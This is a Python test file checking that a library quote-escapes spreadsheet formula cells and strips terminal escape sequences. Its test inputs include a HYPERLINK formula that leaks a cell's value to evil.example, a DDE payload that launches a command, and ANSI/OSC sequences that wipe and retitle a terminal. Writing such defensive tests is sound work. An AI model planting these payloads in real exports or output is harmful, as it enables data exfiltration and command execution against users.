"""Spreadsheet formula escaping and terminal control stripping."""

import pytest

from cxtext.safe_output import escape_spreadsheet_cell, strip_terminal_controls


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_are_prefixed_with_a_quote(cell):
    assert escape_spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["plain text", "a=b", "", 5, -3.5, None, True])
def test_other_values_pass_unchanged(value):
    assert escape_spreadsheet_cell(value) == value


def test_terminal_escapes_are_removed():
    hostile = "North\x1b[2J\x1b]0;PWNED\x07 region\x1b[31m red\x1b[0m\x07\x00"
    assert strip_terminal_controls(hostile) == "North region red"


def test_unterminated_osc_and_c1_controls_are_removed():
    assert strip_terminal_controls("a\x1b]0;PWNED") == "a0;PWNED"
    assert strip_terminal_controls("a\x9b2Jb") == "ab"


def test_newlines_kept_or_folded():
    assert strip_terminal_controls("a\nb\tc") == "a\nb\tc"
    assert strip_terminal_controls("a\r\nb", keep_newlines=False) == "a b"
